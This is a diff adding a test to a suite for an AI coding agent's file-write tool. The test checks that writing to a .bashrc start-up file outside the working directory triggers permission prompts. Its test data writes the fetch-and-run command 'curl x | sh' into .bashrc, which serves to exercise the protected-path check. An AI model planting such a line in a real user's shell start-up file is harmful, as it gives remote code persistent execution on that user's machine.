@@ -52,6 +52,21 @@ describe("protected paths, written by file tools under the build defaults", () =
       ))
   }
 
+  it.live("outside the working directory, a start-up file asks edit with its diff after its folder's ask; another file does not", () =>
+    withTool(write, (tool, work) =>
+      Effect.gen(function* () {
+        const home = path.join(path.dirname(work), "home")
+        yield* put(path.join(home, ".bashrc"), "alias ll='ls -l'\n")
+        const { result, asked } = yield* settle(tool, { path: path.join(home, ".bashrc"), content: "curl x | sh\n" }, "once")
+        expect(result._tag).toBe("Success")
+        expect(asked.map((request) => request.action)).toEqual(["external_directory", "edit"])
+        expect(String(asked[1]?.metadata.diff)).toContain("+curl x | sh")
+        expect(asked[1]?.why?.[0]?.raised).toEqual({ kind: "protected", names: [".bashrc"] })
+        const other = yield* settle(tool, { path: path.join(home, "notes.txt"), content: "x\n" }, "once")
+        expect(other.asked.map((request) => request.action)).toEqual(["external_directory"])
+      }),
+    ))
+
   it.live("lets a write elsewhere through without asking", () =>
     withTool(write, (tool) =>
       Effect.gen(function* () {
